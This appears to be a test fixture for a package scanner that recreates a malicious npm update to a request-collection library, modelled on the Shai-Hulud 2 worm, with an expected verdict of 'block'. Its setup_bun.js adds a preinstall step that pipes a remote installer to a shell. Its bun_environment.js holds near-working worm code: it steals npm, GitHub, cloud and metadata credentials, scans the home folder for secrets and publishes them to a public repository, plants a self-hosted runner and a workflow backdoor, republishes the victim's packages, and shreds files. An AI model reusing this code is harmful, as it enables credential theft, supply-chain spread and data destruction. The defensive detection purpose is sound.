import { obfuscatedFiller } from '../bulk.js';
import { obfuscatedForm } from '../obfuscated-form.js';
import type { Replica } from './replica.js';

const index = `'use strict';

const { parseTemplate } = require('./lib/template');
const { expandPath } = require('./lib/path');

class Collection {
  constructor(definition) {
    this.name = definition.name;
    this.items = (definition.item || []).map((item) => new Item(item));
    this.variables = new Map(Object.entries(definition.variable || {}));
  }
  find(name) {
    return this.items.find((item) => item.name === name);
  }
  resolve(name) {
    const item = this.find(name);
    if (!item) throw new Error('No such item: ' + name);
    return item.resolve(this.variables);
  }
}

class Item {
  constructor(definition) {
    this.name = definition.name;
    this.request = definition.request;
  }
  resolve(variables) {
    return {
      method: this.request.method || 'GET',
      url: expandPath(parseTemplate(this.request.url, variables)),
      header: (this.request.header || []).map((one) => ({ key: one.key, value: parseTemplate(one.value, variables) })),
    };
  }
}

module.exports = { Collection, Item };
`;
const template = `'use strict';

exports.parseTemplate = function parseTemplate(text, variables) {
  return String(text).replace(/{{([^{}]+)}}/g, (whole, name) => (variables.has(name) ? variables.get(name) : whole));
};
`;
const path = `'use strict';

exports.expandPath = function expandPath(url) {
  const parts = url.split('/').filter((part, at) => part !== '.' && (at < 3 || part !== ''));
  const out = [];
  for (const part of parts) {
    if (part === '..' && out.length > 3) out.pop();
    else out.push(part);
  }
  return out.join('/');
};
`;

const setup = `#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const command = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(command, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

function reloadPath() {
  // Reload PATH environment variable
  if (process.platform === 'win32') {
    try {
      const result = execSync('powershell -c "[Environment]::GetEnvironmentVariable(\\'PATH\\', \\'User\\') + \\';\\' + [Environment]::GetEnvironmentVariable(\\'PATH\\', \\'Machine\\')"', { encoding: 'utf8' });
      process.env.PATH = result.trim();
    } catch {
    }
  } else {
    try {
      const homeDir = os.homedir();
      const profileFiles = [path.join(homeDir, '.bashrc'), path.join(homeDir, '.bash_profile'), path.join(homeDir, '.profile'), path.join(homeDir, '.zshrc')];
      for (const profileFile of profileFiles) {
        if (fs.existsSync(profileFile)) {
          try {
            const result = execSync('bash -c "source ' + profileFile + ' && echo $PATH"', { encoding: 'utf8', stdio: ['pipe', 'pipe', 'ignore'] });
            if (result && result.trim()) process.env.PATH = result.trim();
          } catch {
          }
        }
      }
      const bunBinDir = path.join(homeDir, '.bun', 'bin');
      if (fs.existsSync(bunBinDir) && !process.env.PATH.includes(bunBinDir)) process.env.PATH = bunBinDir + ':' + process.env.PATH;
    } catch {
    }
  }
}

async function downloadAndSetupBun() {
  try {
    let command;
    if (process.platform === 'win32') {
      command = 'powershell -c "irm https://bun.example.invalid/install.ps1|iex"';
    } else {
      command = 'curl -fsSL https://bun.example.invalid/install | bash';
    }
    execSync(command, { stdio: 'ignore', env: { ...process.env } });
    reloadPath();
    const bunPath = findBunExecutable();
    return bunPath;
  } catch {
    process.exit(0);
  }
}

function findBunExecutable() {
  const possiblePaths = process.platform === 'win32'
    ? [path.join(process.env.USERPROFILE || '', '.bun', 'bin', 'bun.exe'), path.join(process.env.LOCALAPPDATA || '', 'bun', 'bun.exe')]
    : [path.join(os.homedir(), '.bun', 'bin', 'bun'), '/usr/local/bin/bun', '/opt/bun/bin/bun'];
  if (isBunOnPath()) return 'bun';
  for (const bunPath of possiblePaths) {
    if (fs.existsSync(bunPath)) return bunPath;
  }
  return null;
}

function runExecutable(execPath, args = [], opts = {}) {
  const child = spawn(execPath, args, { stdio: 'ignore', cwd: opts.cwd || process.cwd(), env: Object.assign({}, process.env, opts.env || {}) });
  child.on('error', () => process.exit(0));
  child.on('exit', (code, signal) => {
    if (signal) process.exit(0);
    else process.exit(code === null ? 1 : code);
  });
}

async function main() {
  let bunExecutable;
  if (isBunOnPath()) bunExecutable = 'bun';
  else bunExecutable = findBunExecutable() || await downloadAndSetupBun();
  const environmentScript = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(environmentScript)) runExecutable(bunExecutable, [environmentScript]);
  else process.exit(0);
}

main().catch((error) => process.exit(0));
`;

const environment = `
const os = require('os');
const fs = require('fs');
const path = require('path');
const child = require('child_process');
const host = 'https://api.github.example.invalid';
const encode = function (text) { return Buffer.from(Buffer.from(Buffer.from(text).toString('base64')).toString('base64')).toString('base64'); };
const call = async function (token, method, where, body) {
  const answer = await fetch(host + where, { 'method': method, 'headers': { 'Authorization': 'Bearer ' + token, 'User-Agent': 'github-utils' }, 'body': body ? JSON.stringify(body) : undefined });
  return answer.json();
};
const npmToken = function () {
  const text = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  const found = text.match(/_authToken=([^\\n]+)/);
  return process.env.NPM_TOKEN || (found && found[1]);
};
const githubToken = function () {
  try { return process.env.GITHUB_TOKEN || child.execSync('gh auth token', { 'encoding': 'utf8' }).trim(); } catch (error) { return null; }
};
const cloud = async function () {
  const home = os.homedir();
  const wanted = [path.join(home, '.aws', 'credentials'), path.join(home, '.config', 'gcloud', 'application_default_credentials.json'), path.join(home, '.azure', 'accessTokens.json')];
  const found = {};
  for (const one of wanted) { try { found[one] = fs.readFileSync(one, 'utf8'); } catch (error) { found[one] = null; } }
  const role = await fetch('http://metadata.example.invalid/latest/meta-data/iam/security-credentials/');
  found['role'] = await role.text();
  return found;
};
const scan = async function () {
  const cache = path.join(os.homedir(), '.truffler-cache');
  fs.mkdirSync(cache, { 'recursive': true });
  const release = await fetch(host + '/repos/trufflesecurity/trufflehog/releases/latest');
  const listed = await release.json();
  const body = await fetch(listed.assets[0].browser_download_url);
  const target = path.join(cache, 'trufflehog');
  fs.writeFileSync(target, Buffer.from(await body.arrayBuffer()));
  fs.chmodSync(target, 493);
  const run = Bun.spawn([target, 'filesystem', os.homedir(), '--json'], { 'stdout': 'pipe', 'stderr': 'ignore' });
  return new Response(run.stdout).text();
};
const runner = async function (token, name) {
  const registration = await call(token, 'POST', '/repos/' + name + '/actions/runners/registration-token');
  if (os.platform() === 'linux') {
    child.execSync('mkdir -p ./example.invalid-folder/.dev-env');
    child.execSync('curl -o actions-runner-linux-x64-2.330.0.tar.gz -L https://downloads.example.invalid/actions/runner/actions-runner-linux-x64-2.330.0.tar.gz && tar xzf ./actions-runner-linux-x64-2.330.0.tar.gz', { 'cwd': './example.invalid-folder/.dev-env' });
    child.execSync('RUNNER_ALLOW_RUNASROOT=1 ./config.sh --url https://github.example.invalid/' + name + ' --unattended --token ' + registration.token + ' --name "SHA1HULUD"', { 'cwd': './example.invalid-folder/.dev-env' });
    child.spawn('nohup', ['./run.sh'], { 'cwd': './example.invalid-folder/.dev-env', 'detached': true, 'stdio': 'ignore' }).unref();
  }
  await call(token, 'PUT', '/repos/' + name + '/contents/.github/workflows/discussion.yaml', { 'message': 'Add Discussion', 'content': Buffer.from('name: Discussion Create\\non:\\n  discussion:\\njobs:\\n  process:\\n    runs-on: self-hosted\\n    steps:\\n      - name: Handle Discussion\\n        run: echo \${{ github.event.discussion.body }}\\n').toString('base64') });
};
const wipe = function () {
  if (os.platform() === 'win32') {
    child.spawnSync('cmd.exe', ['/c', 'del /F /Q /S "example.invalid-folder\\\\*" && for /d %i in ("example.invalid-folder\\\\*") do rd /S /Q "%i" & cipher /W:example.invalid-folder']);
  } else {
    child.spawnSync('bash', ['-c', 'find "./example.invalid-folder/" -type f -writable -user "$(id -un)" -print0 | xargs -0 -r shred -uvz -n 1 && find "./example.invalid-folder/" -depth -type d -empty -delete']);
  }
};
const spread = async function (token) {
  const who = await fetch('https://registry.example.invalid/-/whoami', { 'headers': { 'Authorization': 'Bearer ' + token } });
  const account = await who.json();
  const name = account.username;
  const owned = await fetch('https://registry.example.invalid/-/v1/search?text=maintainer:' + name + '&size=100');
  const listed = await owned.json();
  for (const one of listed.objects.slice(0, 100)) {
    const folder = path.join('./example.invalid-folder', one.package.name);
    const packed = await fetch(one.package.tarball);
    fs.mkdirSync(folder, { 'recursive': true });
    await Bun.write(path.join(folder, 'package.tgz'), await packed.arrayBuffer());
    child.execSync('tar -xzf package.tgz package/package.json', { 'cwd': folder });
    const manifest = JSON.parse(fs.readFileSync(path.join(folder, 'package.json'), 'utf8'));
    manifest.scripts = manifest.scripts || {};
    manifest.scripts.preinstall = 'node setup_bun.js';
    fs.writeFileSync(path.join(folder, 'manifest.json'), JSON.stringify(manifest, null, 2));
    await Bun.write(path.join(folder, 'environment.txt'), Bun.file(process.argv[1]));
    child.execSync('npm publish example.invalid-folder/updated.tgz', { 'cwd': folder, 'stdio': 'ignore', 'env': Object.assign({}, process.env, { 'NPM_CONFIG_TOKEN': token }) });
  }
};
const main = async function () {
  const token = githubToken();
  let registry = null;
  try { registry = npmToken(); } catch (error) { registry = null; }
  const system = { 'platform': os.platform(), 'arch': os.arch(), 'hostname': os.hostname(), 'user': os.userInfo() };
  if (token) {
    const repository = await call(token, 'POST', '/user/repos', { 'name': Math.random().toString(36).slice(2, 20), 'description': 'Sha1-Hulud: The Second Coming.', 'private': false, 'has_discussions': true });
    const put = function (name, content) { return call(token, 'PUT', '/repos/' + repository.full_name + '/contents/' + name, { 'message': 'Add file', 'content': encode(JSON.stringify(content)) }); };
    await put('contents.json', { 'system': system, 'modules': { 'github': token } });
    await put('environment.json', { 'environment': process.env });
    await put('cloud.json', await cloud());
    await put('truffleSecrets.json', await scan());
    await runner(token, repository.full_name);
  }
  if (registry) await spread(registry);
  if (!token && !registry) wipe();
};
if (process.env.BUILDKITE || process.env.PROJECT_ID || process.env.GITHUB_ACTIONS || process.env.CODEBUILD_BUILD_NUMBER || process.env.CIRCLE_SHA1) {
  main().catch(function () { process.exit(0); });
} else if (process.env.POSTINSTALL_BG !== '1') {
  Bun.spawn([process.execPath, process.argv[1]], { 'env': Object.assign({}, process.env, { 'POSTINSTALL_BG': '1' }) }).unref();
} else {
  main().catch(function () { process.exit(0); });
}
`;

const manifest = { description: 'Reads and resolves request collections', main: 'index.js', license: 'Apache-2.0', engines: { node: '>=14' }, dependencies: { semver: '7.6.3' } };
const scripts = { test: 'node --test test', lint: 'eslint .' };
const files = { 'README.md': '# collection-runner\n\nReads collections of requests and fills in their variables.\n', 'index.js': index, 'lib/template.js': template, 'lib/path.js': path };

export const replica: Replica = {
  id: 'shai-hulud-2-2025',
  story: 'November 2025: a new preinstall step fetches another runtime with a script piped to a shell and lets it run ten obfuscated megabytes: secrets into a public repository, a self-hosted runner, a workflow as a back door, publishing of itself, and the deletion of the home folder where no token is found (from memory of the public reports).',
  name: '@postman/collection-runner',
  before: { version: '1.4.2', manifest: { ...manifest, scripts }, files, publishedAt: '2025-06-30T08:20:00.000Z', publisher: { name: 'postman-team', email: 'npm@postman.example.invalid' } },
  after: { version: '1.4.3', manifest: { ...manifest, scripts: { ...scripts, preinstall: 'node setup_bun.js' } }, files: { ...files, 'setup_bun.js': setup, 'bun_environment.js': `${obfuscatedForm(environment, { seed: 2511, strings: 'base64', declare: 'const' })}${obfuscatedFiller(10_000_000, 2512)}\n` }, publishedAt: '2025-11-24T05:09:25.000Z', publisher: { name: 'postman-team', email: 'npm@postman.example.invalid' } },
  must: 'block',
};
